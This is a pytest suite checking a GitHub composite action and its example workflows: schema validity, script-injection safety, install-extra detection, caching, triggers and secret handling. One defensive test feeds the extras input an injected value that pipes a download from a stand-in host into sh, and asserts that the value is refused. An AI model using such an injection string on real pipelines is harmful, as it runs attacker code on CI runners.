"""action.yml and the example workflows: valid for GitHub, safe from script injection, per SPEC §8.

Validation is offline: check-jsonschema ships SchemaStore's "github-action" and "github-workflows"
schemas. A run step without `shell:` only shows up there as a confusing oneOf failure, and
`${{ inputs.x }}` pasted into `run:` text is valid but injectable, so both have their own checks.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

ROOT = Path(__file__).resolve().parents[2]
ACTION = ROOT / "action.yml"
WORKFLOWS = sorted((ROOT / "examples" / "workflows").glob("*.yml"))
CHECK = shutil.which("check-jsonschema", path=str(Path(sys.executable).parent)) or shutil.which("check-jsonschema")


def load(path: Path) -> Any:
    return YAML(typ="safe").load(path.read_text())


def all_steps(doc: dict[str, Any]) -> list[dict[str, Any]]:
    if "runs" in doc:
        return list(doc["runs"].get("steps") or [])
    return [s for job in (doc.get("jobs") or {}).values() for s in job.get("steps") or []]


def shell_problems(doc: dict[str, Any]) -> list[str]:
    return [f"step {s.get('name') or s['run'][:40]!r} has no shell" for s in all_steps(doc) if "run" in s and not s.get("shell")]


def injection_problems(doc: dict[str, Any]) -> list[str]:
    """`${{ ... }}` inside run text is expanded before bash sees it; inputs must come through env."""
    return [f"step {s.get('name')!r} expands an expression in run: {m}" for s in all_steps(doc) if "run" in s
            for m in re.findall(r"\$\{\{[^}]*\}\}", str(s["run"]))]


def check_jsonschema(schema: str, *files: Path) -> subprocess.CompletedProcess[str]:
    assert CHECK, "check-jsonschema is not installed (it is in the test extra)"
    return subprocess.run([CHECK, "--builtin-schema", schema, *map(str, files)], capture_output=True, text=True)


# -- schema validation ---------------------------------------------------------------------------


def test_action_yml_is_valid_for_the_github_action_schema() -> None:
    result = check_jsonschema("vendor.github-actions", ACTION)
    assert result.returncode == 0, result.stdout + result.stderr


def test_example_workflows_are_valid_for_the_github_workflow_schema() -> None:
    assert {p.name for p in WORKFLOWS} >= {"plan.yml", "apply.yml", "drift.yml"}
    result = check_jsonschema("vendor.github-workflows", *WORKFLOWS)
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_schema_check_rejects_a_broken_action(tmp_path: Path) -> None:
    broken = tmp_path / "action.yml"
    broken.write_text(ACTION.read_text().replace("  using: composite", "  usin: composite"))
    assert check_jsonschema("vendor.github-actions", broken).returncode != 0


# -- shells and injection ------------------------------------------------------------------------


@pytest.mark.parametrize("path", [ACTION, *WORKFLOWS], ids=lambda p: p.name)
def test_every_run_step_names_its_shell(path: Path) -> None:
    assert shell_problems(load(path)) == []


@pytest.mark.parametrize("path", [ACTION, *WORKFLOWS], ids=lambda p: p.name)
def test_no_expression_is_expanded_inside_run_text(path: Path) -> None:
    assert "${{ inputs." not in "".join(str(s.get("run", "")) for s in all_steps(load(path)))
    assert injection_problems(load(path)) == []


def test_the_checks_catch_a_missing_shell_and_an_inlined_input() -> None:
    doc = load(ACTION)
    step = next(s for s in doc["runs"]["steps"] if "run" in s)
    del step["shell"]
    step["run"] = 'vectorops plan "${{ inputs.environments }}"'
    assert shell_problems(doc) and injection_problems(doc)


# -- the action's contract (SPEC §8) -------------------------------------------------------------


def test_action_inputs_and_outputs_match_the_spec() -> None:
    doc = load(ACTION)
    inputs = doc["inputs"]
    assert set(inputs) == {"command", "manifest", "environments", "args", "comment", "github-token", "python-version",
                           "extras", "fail-on-drift", "cache", "cache-max-size"}
    assert inputs["command"]["default"] == "plan"
    assert inputs["extras"]["default"] == ""
    assert str(inputs["fail-on-drift"]["default"]) == "true"
    assert str(inputs["cache"]["default"]) == "true"
    assert inputs["cache-max-size"]["default"] == "2GB"
    assert inputs["manifest"]["default"] == "vectorops.yaml"
    assert inputs["environments"]["default"] == ""
    assert str(inputs["comment"]["default"]) == "true"
    assert inputs["github-token"]["default"] == "${{ github.token }}"
    assert set(doc["outputs"]) == {"has-changes", "exitcode", "plan-json"}
    for name, out in doc["outputs"].items():
        assert out["value"] == f"${{{{ steps.run.outputs.{name} }}}}"


def test_action_is_composite_installs_itself_and_runs_the_package() -> None:
    doc = load(ACTION)
    assert doc["runs"]["using"] == "composite"
    steps = doc["runs"]["steps"]
    assert any(str(s.get("uses", "")).startswith("actions/setup-python@v5") for s in steps)
    prepare = step_named("Work out what to install")
    assert "$GITHUB_ACTION_PATH" in prepare["run"] or "${GITHUB_ACTION_PATH}" in prepare["run"]
    assert prepare["env"]["VECTOROPS_EXTRAS"] == "${{ inputs.extras }}"
    install = step_named("Install vectorops")
    assert install["env"]["VECTOROPS_INSTALL_SPEC"] == "${{ steps.prepare.outputs.install-spec }}"
    assert 'pip install' in install["run"] and '"$VECTOROPS_INSTALL_SPEC"' in install["run"]
    run = next(s for s in steps if s.get("id") == "run")
    assert run["run"].strip() == "python -m reconciler.github"
    # every input reaches the logic through env, under the name reconciler/github.py reads
    env = run["env"]
    assert env["VECTOROPS_COMMAND"] == "${{ inputs.command }}"
    assert env["VECTOROPS_MANIFEST"] == "${{ inputs.manifest }}"
    assert env["VECTOROPS_ENVIRONMENTS"] == "${{ inputs.environments }}"
    assert env["VECTOROPS_ARGS"] == "${{ inputs.args }}"
    assert env["VECTOROPS_COMMENT"] == "${{ inputs.comment }}"
    assert env["VECTOROPS_FAIL_ON_DRIFT"] == "${{ inputs.fail-on-drift }}"
    assert env["VECTOROPS_CACHE_MAX_SIZE"] == "${{ inputs.cache == 'true' && inputs.cache-max-size || '' }}"  # no cache saved: nothing to prune
    assert env["GITHUB_TOKEN"] == "${{ inputs.github-token }}"


def test_action_depends_on_nothing_outside_its_checkout() -> None:
    text = ACTION.read_text()
    assert "uses: ./" not in text and "github.workspace" not in text
    for s in load(ACTION)["runs"]["steps"]:
        assert "working-directory" not in s


def step_named(prefix: str) -> dict[str, Any]:
    return next(s for s in load(ACTION)["runs"]["steps"] if str(s.get("name", "")).startswith(prefix))


def prepare(tmp_path: Path, manifest: str | None, extras: str = "", dvc_config: str | None = None,
            subdir: str = "") -> tuple[subprocess.CompletedProcess[str], dict[str, str]]:
    """Run the action's own "Work out what to install and cache" shell text in a fake workspace."""
    workspace = tmp_path / "ws"
    (workspace / subdir).mkdir(parents=True, exist_ok=True)
    if dvc_config is not None:
        (workspace / ".dvc").mkdir(exist_ok=True)
        (workspace / ".dvc" / "config").write_text(dvc_config)
    manifest_path = Path(subdir, "vectorops.yaml")
    if manifest is not None:
        (workspace / manifest_path).write_text(manifest)
    output = tmp_path / "output.txt"
    output.write_text("")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path / "home"), "GITHUB_ACTION_PATH": str(ROOT),
           "GITHUB_OUTPUT": str(output), "RUNNER_OS": "Linux", "VECTOROPS_MANIFEST": str(manifest_path),
           "VECTOROPS_EXTRAS": extras, "VECTOROPS_PYTHON": "3.11"}
    proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step_named("Work out")["run"]],
                          cwd=workspace, env=env, capture_output=True, text=True)
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines() if "=" in line)
    return proc, outputs


def test_pinecone_extra_is_detected_from_the_manifest(tmp_path: Path) -> None:
    """Run the step's own shell text on three manifests: Pinecone is installed only when used."""
    cases = {"pinecone": "environments:\n  p:\n    destination: {type: pinecone, index: x}\n",
             "quoted": 'destination:\n  type: "pinecone"\n',
             "lancedb": "# type: pinecone is commented out\ndestination:\n  type: lancedb\n"}
    for name, manifest in cases.items():
        proc, out = prepare(tmp_path / name, manifest)
        assert proc.returncode == 0, proc.stderr
        assert out["install-spec"] == (f"{ROOT}[pinecone]" if name != "lancedb" else str(ROOT)), (name, out)


@pytest.mark.parametrize("destination", ["qdrant", "pgvector"])
def test_every_destination_in_its_own_extra_is_detected_from_the_manifest(tmp_path: Path, destination: str) -> None:
    manifest = f"environments:\n  a:\n    destination: {{type: {destination}, collection: x}}\n  b:\n    destination:\n      type: pinecone\n"
    proc, out = prepare(tmp_path / "used", manifest)
    assert proc.returncode == 0, proc.stderr
    assert out["install-spec"] == f"{ROOT}[pinecone,{destination}]"
    # a longer type name that merely starts with it is not that type
    proc, out = prepare(tmp_path / "other", f"destination: {{type: {destination}-fork}}\n")
    assert out["install-spec"] == str(ROOT)


def test_extras_input_is_installed_with_the_package(tmp_path: Path) -> None:
    proc, out = prepare(tmp_path / "a", "destination: {type: lancedb}\n", extras="s3  gs,\nazure")
    assert proc.returncode == 0, proc.stderr
    assert out["install-spec"] == f"{ROOT}[s3,gs,azure]"
    # pinecone named and detected is installed once
    proc, out = prepare(tmp_path / "b", "destination: {type: pinecone}\n", extras="pinecone, s3")
    assert out["install-spec"] == f"{ROOT}[pinecone,s3]"


def test_a_cloud_dvc_remote_brings_its_extra(tmp_path: Path) -> None:
    config = "[core]\n    remote = storage\n['remote \"storage\"']\n    url = s3://bucket/dvcstore\n"
    proc, out = prepare(tmp_path, "destination: {type: lancedb}\n", dvc_config=config, subdir="deploy")
    assert proc.returncode == 0, proc.stderr
    assert out["install-spec"] == f"{ROOT}[s3]"
    assert out["dvc-cache"] == str(tmp_path / "ws" / ".dvc" / "cache")  # the DVC project above the manifest


def test_extras_that_are_not_names_are_refused(tmp_path: Path) -> None:
    proc, out = prepare(tmp_path, None, extras="s3]; curl evil.example | sh #")
    assert proc.returncode == 1
    assert "::error title=vectorops::input `extras` must be extra names" in proc.stdout
    assert "install-spec" not in out


def test_every_extra_the_docs_name_exists_in_pyproject() -> None:
    from importlib.metadata import metadata

    extras = set(metadata("vectorops").get_all("Provides-Extra") or [])
    assert {"s3", "gs", "azure", "pinecone", "qdrant", "pgvector"} <= extras
    described = load(ACTION)["inputs"]["extras"]["description"]
    assert all(name in described for name in ("s3", "gs", "azure", "pinecone", "qdrant", "pgvector"))


# -- caching between runs ------------------------------------------------------------------------


def test_cache_input_caches_pip_dvc_and_the_hash_cache_keyed_on_the_digests(tmp_path: Path) -> None:
    steps = load(ACTION)["runs"]["steps"]
    names = [str(s.get("name")) for s in steps]
    caches = [s for s in steps if str(s.get("uses", "")).startswith("actions/cache@v4")]
    assert len(caches) == 2 and all(s["if"] == "inputs.cache == 'true'" for s in caches)
    pip, data = caches
    # pip's cache is restored before the install, the data caches before vectorops runs
    assert names.index(pip["name"]) < names.index("Install vectorops from the action's checkout")
    assert names.index("Install vectorops from the action's checkout") < names.index(data["name"]) < names.index("Run vectorops")
    assert pip["with"]["path"] == "${{ steps.prepare.outputs.pip-cache }}"
    assert pip["with"]["key"] == "${{ steps.prepare.outputs.pip-key }}"
    assert data["with"]["path"].splitlines() == ["${{ steps.prepare.outputs.dvc-cache }}", "${{ steps.prepare.outputs.hash-cache }}"]
    assert "hashFiles(inputs.manifest, '**/*.dvc', '**/dvc.lock')" in data["with"]["key"]
    assert data["with"]["restore-keys"] and data["with"]["key"].startswith(data["with"]["restore-keys"])

    proc, out = prepare(tmp_path, "destination: {type: lancedb}\n")
    assert proc.returncode == 0, proc.stderr
    assert out["hash-cache"] == str(tmp_path / "home" / ".cache" / "vectorops")  # reconciler.caches.cache_dir()
    assert out["pip-key"].startswith("vectorops-pip-Linux-py3.11-")
    assert pip["with"]["restore-keys"] == "vectorops-pip-${{ runner.os }}-py${{ inputs.python-version }}-"


# -- the example workflows -----------------------------------------------------------------------


def workflow(name: str) -> dict[str, Any]:
    return load(ROOT / "examples" / "workflows" / name)


def uses_of_the_action(doc: dict[str, Any]) -> list[dict[str, Any]]:
    return [s for s in all_steps(doc) if str(s.get("uses", "")).startswith("OWNER/vectorops@")]


def test_plan_workflow_runs_on_pull_requests_with_history_and_comment_permission() -> None:
    doc = workflow("plan.yml")
    on = doc.get("on", doc.get(True))  # YAML 1.1 reads a bare `on` as true
    assert "pull_request" in on and "vectorops.yaml" in on["pull_request"]["paths"]
    assert doc["permissions"]["pull-requests"] == "write"
    checkout = next(s for s in all_steps(doc) if str(s.get("uses", "")).startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 0
    [step] = uses_of_the_action(doc)
    assert step["uses"] == f"OWNER/vectorops@{MOVING_TAG}" and step["with"]["command"] == "plan"


def test_apply_workflow_goes_staging_then_prod_serialised_with_rollback() -> None:
    doc = workflow("apply.yml")
    on = doc.get("on", doc.get(True))
    assert on["push"]["branches"] == ["main"]
    assert doc["concurrency"]["group"] and doc["concurrency"]["cancel-in-progress"] is False
    assert doc["jobs"]["prod"]["needs"] == "staging"
    for job, env in (("staging", "staging"), ("prod", "prod")):
        steps = doc["jobs"][job]["steps"]
        apply = next(s for s in steps if str(s.get("uses", "")).startswith("OWNER/vectorops@"))
        assert (apply["with"]["command"], apply["with"]["environments"]) == ("apply", env)
        rollback = next(s for s in steps if "vectorops rollback" in str(s.get("run", "")))
        assert rollback["if"].startswith("failure()") and rollback["env"]["TARGET_ENV"] == env
    assert "PINECONE_API_KEY" in doc["env"] and "secrets." in doc["env"]["PINECONE_API_KEY"]


def test_drift_workflow_is_scheduled_and_the_action_itself_fails_on_drift() -> None:
    doc = workflow("drift.yml")
    on = doc.get("on", doc.get(True))
    assert on["schedule"][0]["cron"].split()[1] == "*"  # hourly
    [step] = uses_of_the_action(doc)
    assert step["with"]["command"] == "drift"
    # drift fails the step by the action's default; a workflow that turned it off would never alert
    assert str(step["with"].get("fail-on-drift", "true")) == "true"
    assert [s for s in all_steps(doc) if "has-changes" in str(s.get("if", ""))] == []


# -- the release tags the README and the examples pin (docs/releasing.md) ------------------------

def _package_version() -> str:
    from importlib.metadata import version

    return version("vectorops")


MOVING_TAG = f"v{_package_version().split('.')[0]}"  # v0 while the version is 0.x


def test_readme_and_examples_pin_the_moving_major_tag_that_releasing_md_creates() -> None:
    readme = (ROOT / "README.md").read_text()
    releasing = (ROOT / "docs" / "releasing.md").read_text()
    pinned = set(re.findall(r"uses: OWNER/vectorops@(\S+)", readme))
    for path in WORKFLOWS:
        pinned |= {s["uses"].split("@", 1)[1] for s in uses_of_the_action(load(path))}
    assert pinned == {MOVING_TAG}, pinned
    # the procedure moves that tag to each release of the same major version
    assert f"git tag -fa {MOVING_TAG}" in releasing and f"git push -f origin {MOVING_TAG}" in releasing
    assert "docs/releasing.md" in readme


@pytest.mark.parametrize("name", ["plan.yml", "apply.yml", "drift.yml"])
def test_secrets_come_from_github_secrets(name: str) -> None:
    text = (ROOT / "examples" / "workflows" / name).read_text()
    for var in ("PINECONE_API_KEY", "AWS_SECRET_ACCESS_KEY"):
        assert re.search(rf"{var}: \$\{{\{{ secrets\.{var} \}}\}}", text), var
